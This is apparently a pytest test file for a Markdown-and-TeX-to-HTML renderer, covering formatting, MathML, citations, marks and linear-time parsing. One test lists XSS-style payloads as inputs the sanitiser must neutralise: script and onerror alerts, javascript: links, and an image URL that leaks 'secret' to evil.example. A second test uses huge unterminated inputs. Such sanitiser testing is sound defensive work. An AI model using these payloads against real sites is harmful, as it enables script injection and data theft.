"""Rich text is shown as it is meant, and can do nothing."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from passagework.richtext.html import render, render_inline
from passagework.richtext.marks import Mark

OPENING, CLOSING = Markup('<span class="fault">'), Markup("</span>")


class Reader(HTMLParser):
    """Collects tags, and fails for one that is not closed where it should be."""

    VOID = ("br", "hr")

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


def test_markdown_becomes_html() -> None:
    html = render("## Means\n\nThe *mean* is **not** the `median`:\n\n1. add\n2. divide\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert html.startswith(
        '<p class="rich-head"><strong>Means</strong></p><p>The <em>mean</em> is <strong>not</strong> the <code>median'
    )
    assert "<ol><li>add</li><li>divide</li></ol><table><thead><tr><th>a</th><th>b</th></tr></thead>" in html


@pytest.mark.parametrize("written", ["$\\bar{x}=4$", "\\(\\bar{x}=4\\)"])
def test_tex_becomes_mathml(written: str) -> None:
    assert "<mover" in render_inline(f"so {written} is") and 'display="inline"' in render_inline(written)


@pytest.mark.parametrize("written", ["$$\\frac{1}{2}$$", "\\[\\frac{1}{2}\\]", "\\[\n\\frac{1}{2}\n\\]"])
def test_a_formula_by_itself_is_a_block(written: str) -> None:
    assert 'display="block"' in render(written) and "<mfrac>" in render(written)


def test_tex_that_is_not_known_is_shown_as_it_is() -> None:
    assert render_inline("$\\nosuchcommand{x}$") == "<code>\\nosuchcommand{x}</code>"


def test_prices_are_no_formulas() -> None:
    assert render_inline("It costs $5 or $6 now.") == "It costs $5 or $6 now."


def test_tex_in_code_stays_code() -> None:
    assert render_inline("`\\(x\\)`") == "<code>\\(x\\)</code>"


@pytest.mark.parametrize(
    "hostile",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "![see](https://evil.example/?q=secret)",
        "![see][1]\n\n[1]: https://evil.example/x.png",
        "[click](javascript:alert(1))",
        '[click](https://evil.example/ "title")',
        "<https://evil.example/>",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\text{<img src=x onerror=alert(1)>}$",
        "<svg><style>*{background:url(https://evil.example)}</style></svg>",
    ],
)
def test_nothing_runs_is_fetched_or_followed(hostile: str) -> None:
    seen = Reader(render(hostile)).seen
    assert {tag for tag, _ in seen} <= {"p", "code", "math", "mrow", "mi", "mo", "mtext", "mn", "span"}
    assert not any({"src", "href", "style", "onerror", "srcset"} & set(attributes) for _, attributes in seen)


def test_a_link_shows_its_whole_address() -> None:
    assert render_inline("[this](https://evil.example/?q=1)") == "this (https://evil.example/?q=1)"


def test_citations_side_by_side_are_written_together() -> None:
    written: list[tuple[int, ...]] = []

    def cite(numbers: tuple[int, ...]) -> Markup:
        written.append(numbers)
        return Markup("<sup>*</sup>")

    html = render("One [1][2]. Two [3] and `[4]` and $[5]$ and x[10001], y[1][2] = z[3]. Ends.[6]", cite)
    assert written == [(1, 2), (3,), (6,)]
    assert html.startswith("<p>One <sup>*</sup>. Two <sup>*</sup> and <code>[4]</code>")


def test_a_mark_over_emphasis_and_items_is_well_formed() -> None:
    text = "- A *sentence\n- over* items. Next."
    html = render(text, marks=[Mark(0, text.index(" Next"), OPENING, CLOSING)])
    assert Reader(html).text == "A *sentenceover* items. Next."
    assert html.startswith('<ul><li><span class="fault">A *sentence</span></li>')
    assert html.endswith('<span class="fault">over* items.</span> Next.</li></ul>')


def test_a_mark_does_not_change_what_is_emphasis() -> None:
    text = "_All_ of it. **Some**"
    html = render(text, marks=[Mark(0, 12, OPENING, CLOSING), Mark(13, len(text), OPENING, CLOSING)])
    assert "<em>" in html and "<strong>" in html


@given(st.text("ab *_`$[]()1\n-#>|\\.<&\U000f0000\U000f0003", max_size=60), st.integers(0, 60), st.integers(0, 60))
def test_any_text_and_any_mark_give_well_formed_html(text: str, start: int, end: int) -> None:
    html = render(text, lambda numbers: Markup("<i></i>"), [Mark(min(start, end), max(start, end), OPENING, CLOSING)])
    Reader(html)
    assert not any("\U000f0000" <= character <= "\U000ffffd" for character in html)


def test_text_that_nests_too_deep_is_shown() -> None:
    assert "deep" in render("> " * 500 + "deep") and "deep" in render("\n".join("  " * n + "- deep" for n in range(60)))


@pytest.mark.parametrize(
    "hostile",
    [
        r"\(" * 300_000,
        r"\[" * 300_000,
        r"\[\(x" * 150_000,
        r"\[a" + " " * 600_000 + r"b\]",
        "".join("`" * n + "a" for n in range(1100)),
    ],
    ids=["inline", "block", "both", "blanks", "ticks"],
)
def test_formulas_and_code_without_an_end_are_read_in_time_that_grows_with_the_text(hostile: str) -> None:
    # Were it to grow with the square of it, this would take hours.
    assert render(hostile)
